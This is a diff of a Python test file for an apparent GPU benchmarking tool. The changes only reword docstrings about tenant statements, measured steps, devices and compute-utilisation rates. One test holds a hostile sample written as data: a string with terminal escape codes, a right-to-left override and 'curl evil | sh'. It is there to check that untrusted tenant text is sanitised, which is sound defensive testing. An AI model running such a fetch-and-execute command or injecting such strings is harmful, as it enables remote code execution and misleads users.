@@ -1,4 +1,4 @@
-"""What REPORTS asks of a record, from what a tenant told and what the runner saw."""
+"""The fields of a record, from a tenant's statement and the runner's measurements."""
 
 from __future__ import annotations
 
@@ -73,7 +73,7 @@ def test_train_is_of_the_kept_observations_and_every_one_is_stored() -> None:
 
 
 def test_the_asked_stands_beside_the_given_and_the_divisions_hold_with_what_was_done() -> None:
-    """Also of a program that does not say what it did, but names `number` among its arguments."""
+    """Also for a program that does not report its amount, but names `number` among its arguments."""
     asked, given = Amount(30, 25, 5), Amount(15, 25, 5)
     for part in (a_part(number=15, repeat=25), a_part()):
         record = a_record(
@@ -142,7 +142,7 @@ def test_findings_are_the_launches_the_tenants_and_the_rules() -> None:
 
 
 def test_what_a_tenant_states_of_itself_is_labelled_and_has_none_of_our_names() -> None:
-    """Nor does it command a terminal, or fill a record."""
+    """Its texts can neither command a terminal nor fill a record."""
     shell = {"sentence": "Run\x1b[2J this:\u202e curl evil | sh", "remedy": "sh\nnow"}
     lies = [
         {"rule": "slow_user", "severity": "error"} | shell,
@@ -231,7 +231,7 @@ def test_an_observation_message_is_taken_as_it_was_checked() -> None:
 
 
 def test_devices_are_those_that_trained() -> None:
-    """Not those of the slice, whose watts and number would stand beside the rate of one."""
+    """A device of the slice that did not train would add its watts to the rate of the others."""
     for seen, vcd, devices in (
         ({"device": "cuda:0", "world_size": 1}, "4", 1),
         ({"device": "cuda:0", "world_size": 3}, "4,5,6", 3),
@@ -250,7 +250,7 @@ H200 = {"gpu": "NVIDIA H200"}
 
 
 def stepped(flops: object, seen: dict[str, Any] | None = None, number: object = 30, **told: Any) -> Record:
-    """A record of 500 ms observations of 30 steps, each of so many operations."""
+    """A record of 500 ms observations of 30 steps, each of `flops` operations."""
     seen = {"dtype": "bf16", "device": "cuda", "flops_per_step": flops} | (seen or {})
     part = a_part(observed=seen, arguments=ARGUMENTS | {"number": number}, **H200)
     return a_record(told={"part": part, "observations": observed([500.0] * 20), **told})
@@ -281,7 +281,7 @@ def test_what_is_not_known_of_the_operations_is_not_recorded() -> None:
 
 
 def test_the_steps_are_those_that_go_gave_and_not_those_asked_for() -> None:
-    """A budget halves what a program does that names `number` among its arguments only."""
+    """A budget halves the steps of a program that names `number` among its arguments only."""
     asked, given = Amount(30, 20, 5), Amount(15, 20, 5)
     record = stepped(2 * 10**13, asked=asked, given=given)
     assert record.arguments["number"] == 15
@@ -291,7 +291,7 @@ def test_the_steps_are_those_that_go_gave_and_not_those_asked_for() -> None:
 
 
 def test_convolutions_that_can_take_fewer_products_may_exceed_the_peak() -> None:
-    """fp32 of 3 x 3 by Winograd's algorithm: an honest rate, and no error."""
+    """A 3 x 3 convolution in fp32 by Winograd's algorithm has an honest rate: it is no error."""
     record = stepped(2 * 10**13, {"flops_reducible": 18 * 10**12})
     assert record.meters["compute"]["mfu_least"] == pytest.approx((1 - 0.75 * 0.9) * 1200 / 989.5)
     assert {"mfu_above_peak"} == {one for one in rules(record) if one.startswith("mfu")}
@@ -338,7 +338,7 @@ def test_what_speaks_the_protocol_by_itself_is_unaudited() -> None:
 
 
 def in_blocks(*kinds: str, ms: float = 20.0, alone_ms: float = 10.0) -> list[Observed]:
-    """Five observations in each block of these kinds; alone they take another time."""
+    """Five observations in each block of these kinds; those alone (`only`) take `alone_ms`."""
     rows = []
     for block, kind in enumerate(kinds):
         start_ns = T0_NS + block * 10**9
